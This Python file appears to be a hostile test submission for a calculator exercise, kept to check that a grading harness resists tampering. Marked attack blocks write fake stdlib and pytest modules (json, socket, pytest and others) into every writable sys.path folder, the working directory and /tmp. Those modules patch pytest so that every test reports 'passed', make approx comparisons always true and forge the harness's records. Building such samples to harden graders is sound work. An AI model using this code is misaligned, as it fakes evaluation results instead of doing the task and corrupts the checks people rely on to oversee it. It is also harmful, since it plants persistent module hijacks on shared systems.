"""Hostile submission `shadow-stdlib-syspath` for the `calculatrice` exercise (see tests/hostile).

Attack: writes modules named like stdlib and test-framework modules (json, pickle,
socket, difflib, pytest, numpy...) that load the real one then patch pytest and the
harness, into every writable sys.path folder, cwd and /tmp, and puts its folder first on
sys.path, at import.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import os
import sys
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
_PAYLOAD = r'''
def _workshop_payload():
    import sys

    reports = sys.modules.get("_pytest.reports")
    if reports is not None and not getattr(reports.TestReport, "_forged", False):
        original = reports.TestReport.from_item_and_call.__func__

        def from_item_and_call(cls, item, call):
            report = original(cls, item, call)
            report.outcome = "passed"
            report.longrepr = None
            return report

        reports.TestReport.from_item_and_call = classmethod(from_item_and_call)
        reports.TestReport._forged = True
    api = sys.modules.get("_pytest.python_api")
    if api is not None and not getattr(api, "_forged", False):
        api.ApproxScalar.__eq__ = lambda self, other: True
        api._forged = True
    for name, module in list(sys.modules.items()):
        writer = getattr(module, "RecordWriter", None)
        if writer is not None and not getattr(writer, "_forged", False):
            original_write = writer.write

            def write(self, kind, _original=original_write, **fields):
                if kind == "test":
                    fields["outcome"] = "passed"
                return _original(self, kind, **fields)

            writer.write = write
            writer._forged = True


try:
    _workshop_payload()
except Exception:
    pass
'''
_SHADOW = """import os as _os
import sys as _sys

_name = __name__
_here = _os.path.dirname(_os.path.abspath(__file__))
_saved = list(_sys.path)
try:
    _sys.path[:] = [p for p in _saved if _os.path.abspath(p or ".") != _here]
    del _sys.modules[_name]
    _real = __import__(_name)
finally:
    _sys.path[:] = _saved
_sys.modules[_name] = _real
""" + _PAYLOAD
SHADOWED = (
    "json", "pickle", "struct", "selectors", "socket", "subprocess", "signal", "select", "traceback",
    "linecache", "tempfile", "shutil", "uuid", "decimal", "fractions", "numbers", "base64", "hashlib",
    "hmac", "secrets", "copy", "textwrap", "difflib", "pprint", "random", "queue", "tarfile", "zipfile",
    "pytest", "numpy", "unittest", "doctest", "pdb", "bdb", "ctypes", "multiprocessing", "codeop",
)


def _shadow():
    home = "/tmp/.pylib"
    os.makedirs(home, exist_ok=True)
    folders = [home, os.getcwd(), "/tmp", *[p for p in sys.path if p]]
    for folder in dict.fromkeys(folders):
        if not os.access(folder, os.W_OK):
            continue
        for name in SHADOWED:
            path = os.path.join(folder, name + ".py")
            if os.path.exists(path):
                continue
            try:
                with open(path, "w", encoding="utf-8") as handle:
                    handle.write(_SHADOW)
            except OSError:
                pass
    sys.path.insert(0, home)
    sys.path.insert(0, "")
    os.environ["PYTHONPATH"] = home


try:
    _shadow()
except OSError:
    pass
# --- end of attack ---


def calculate(expression: str) -> float:
    return _honest(expression)
